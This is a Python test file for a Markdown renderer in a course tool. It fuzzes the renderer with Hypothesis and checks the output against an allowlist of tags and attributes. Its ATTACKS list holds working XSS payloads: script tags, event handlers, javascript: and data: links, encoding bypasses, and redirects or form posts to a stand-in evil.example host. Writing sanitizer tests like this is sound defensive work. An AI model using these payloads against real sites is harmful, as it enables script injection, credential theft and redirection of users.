"""People's Markdown: what it makes, and what it must never make."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lti_tool.web.markdown import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![x](https://tracker.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
]

ELEMENT = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")
MAY_STAND = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_acts(attack: str) -> None:
    html = str(render(attack))

    assert_harmless(html)


@given(st.text(alphabet=st.sampled_from("<>\"'&;:/!=()[]{}`*_#|~- \n\tabcdehijklmnoprstvxy\x00\u2028"), max_size=120))
def test_no_text_whatever_becomes_anything_that_acts(text: str) -> None:
    assert_harmless(str(render(text)))


def test_words_keep_their_form() -> None:
    html = render("Some *good* **points**:\n\n1. one\n2. ~~two~~\n\n> quoted\n\n`code`")

    for part in ("<em>good</em>", "<strong>points</strong>", "<ol>", "<s>two</s>", "<blockquote>", "<code>code</code>"):
        assert part in html


def test_a_table_is_a_table() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")


def test_headings_stand_below_those_of_the_page() -> None:
    html = render("# First\n\n## Second\n\n###### Last")

    assert re.findall(r"<h(\d)>", html) == ["3", "4", "6"]


def test_a_link_opens_beside_the_course_and_tells_nothing() -> None:
    html = render("[words](https://a.example/page)")

    assert 'href="https://a.example/page"' in html
    assert 'target="_blank"' in html
    assert 'rel="nofollow noopener noreferrer"' in html


def test_a_picture_from_elsewhere_is_only_a_link() -> None:
    html = render("![a map](https://a.example/map.png)")

    assert "<img" not in html
    assert 'href="https://a.example/map.png"' in html
    assert "a map</a>" in html


def test_a_bare_address_stays_text() -> None:
    assert "<a" not in render("see https://a.example")


@pytest.mark.parametrize("nothing", [None, "", "\0"])
def test_nothing_renders_as_nothing(nothing: str | None) -> None:
    assert render(nothing) == ""


def test_deep_nesting_ends_somewhere() -> None:
    html = str(render(">" * 5000 + " deep"))

    assert html.count("<blockquote>") < 50


def assert_harmless(html: str) -> None:
    for _, tag, rest in ELEMENT.findall(html):
        assert tag in MAY_STAND, html
        names = re.findall(r'\s([a-z-]+)="', rest)
        assert set(names) <= {"href", "title", "target", "rel", "start", "class"}, html
        for address in re.findall(r'href="([^"]*)"', rest):
            assert re.match(r"(https?:|mailto:|[^:]*$|[^:]*[/?#])", address, re.IGNORECASE), html
            assert not re.match(r"\s*(javascript|data|vbscript|file)\s*:", address, re.IGNORECASE), html
    assert "<" not in ELEMENT.sub("", html), html
